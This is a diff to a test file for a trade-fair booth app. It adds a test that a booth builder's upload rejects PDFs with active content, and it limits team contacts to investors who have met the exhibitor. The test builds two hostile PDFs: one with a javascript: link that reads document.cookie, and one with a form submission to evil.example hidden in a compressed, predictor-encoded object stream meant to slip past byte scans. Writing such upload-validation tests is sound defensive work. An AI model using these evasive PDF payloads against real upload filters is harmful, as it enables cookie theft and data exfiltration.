@@ -1,10 +1,11 @@
 // Exhibitors build booths; nobody else can touch them. Uploads are checked by content.
-import { mkdtempSync } from "node:fs";
+import { mkdtempSync, readdirSync } from "node:fs";
 import { tmpdir } from "node:os";
 import path from "node:path";
+import { deflateSync } from "node:zlib";
 import sharp from "sharp";
 import { beforeAll, describe, expect, it } from "vitest";
-import { configure } from "../../app/config.server.ts";
+import { config, configure } from "../../app/config.server.ts";
 import { db } from "../../app/db/client.server.ts";
 import * as apply from "../../app/routes/fairs.$slug_.apply.tsx";
 import * as boothPage from "../../app/routes/booths.$id.tsx";
@@ -270,12 +271,78 @@ describe("booth building and curation", () => {
     expect(await db().projectAttachment.count({ where: { projectId: booth.projects[0].id } })).toBe(1);
   });
 
-  it("shows team contacts to investors and the booth's team only, never to visitors or anonymous users", async () => {
+  it("refuses PDFs with active content through the builder's upload: localized message, nothing stored", async () => {
+    const booth = await db().booth.findFirstOrThrow({
+      where: { organizationId: a.organizationId! },
+      include: { projects: true },
+    });
+    const url = `/booths/${booth.id}/edit`;
+    const docs = path.join(config().MEDIA_DIR, "booths", booth.id, "docs");
+    const stored = () => readdirSync(docs).sort();
+    const before = stored();
+    const attachments = await db().projectAttachment.count({ where: { projectId: booth.projects[0].id } });
+    // A link to javascript:, and a form submission hidden in a predictor-encoded object stream
+    // behind a comment (both passed the old byte scan).
+    const objects = "6 0 ";
+    const action = "<< /S /SubmitForm /F (https://evil.example/collect) >>";
+    const rows: Buffer[] = [];
+    const plain = Buffer.from(objects + action, "latin1");
+    for (let at = 0; at < plain.length; at += 4) rows.push(Buffer.from([0]), plain.subarray(at, at + 4));
+    const objStm = deflateSync(Buffer.concat(rows));
+    const hostile = [
+      Buffer.from(
+        "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n" +
+          "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 20]" +
+          "/A<</S/URI/URI( JavaScript:alert\\(document.cookie\\))>>>>]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
+      ),
+      Buffer.concat([
+        Buffer.from(
+          `%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n` +
+            `4 0 obj<</Type/ObjStm/N 1/First ${objects.length}/Filter/FlateDecode/DecodeParms<</Predictor 10/Columns 4>>` +
+            `/Length ${objStm.length}>> % comment\nstream\n`,
+          "latin1",
+        ),
+        objStm,
+        Buffer.from("\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"),
+      ]),
+    ];
+    for (const [i, bytes] of hostile.entries()) {
+      const res = await call(
+        builder.action,
+        multipart(
+          url,
+          a.cookie,
+          { intent: "attachment-add", id: booth.projects[0].id },
+          { field: "file", name: `deck-${i}.pdf`, type: "application/pdf", bytes },
+        ),
+        { id: booth.id },
+      );
+      expect(res.status, `file ${i}`).toBe(400);
+      expect((await res.json()).formError, `file ${i}`).toBe(
+        `该 PDF 含有脚本、表单提交、嵌入文件或非网页链接等动作（${i === 0 ? "URI" : "SubmitForm"}），出于安全原因不能上传。请用“打印为 PDF”重新导出后上传。`,
+      );
+    }
+    expect(await db().projectAttachment.count({ where: { projectId: booth.projects[0].id } })).toBe(attachments);
+    expect(stored()).toEqual(before);
+  });
+
+  it("shows team contacts to the booth's team and to investors the exhibitor met, never to visitors or anonymous users", async () => {
+    // Issue 14: any investor account used to see every booth's contacts. The full rule: contacts.test.ts.
     const pub = await makeBooth(fair, (await makeUser("EXHIBITOR")).organizationId!, "APPROVED");
     const [investor, visitor] = await Promise.all([makeUser("INVESTOR"), makeUser("VISITOR")]);
     const view = async (cookie?: string) =>
       (await (await call(boothPage.loader, req(`/booths/${pub.id}`, { cookie }), { id: pub.id })).json()).booth
         .contacts;
+    expect(await view(investor.cookie)).toBeNull();
+    await db().meeting.create({
+      data: {
+        fairId: fair.id,
+        investorOrgId: investor.organizationId!,
+        exhibitorOrgId: pub.organizationId,
+        startsAt: new Date("2026-12-08T02:00:00Z"),
+        endsAt: new Date("2026-12-08T02:20:00Z"),
+      },
+    });
     expect(await view(investor.cookie)).toEqual([
       expect.objectContaining({ name: "张经理", email: "zhang@booth.example.cn" }),
     ]);
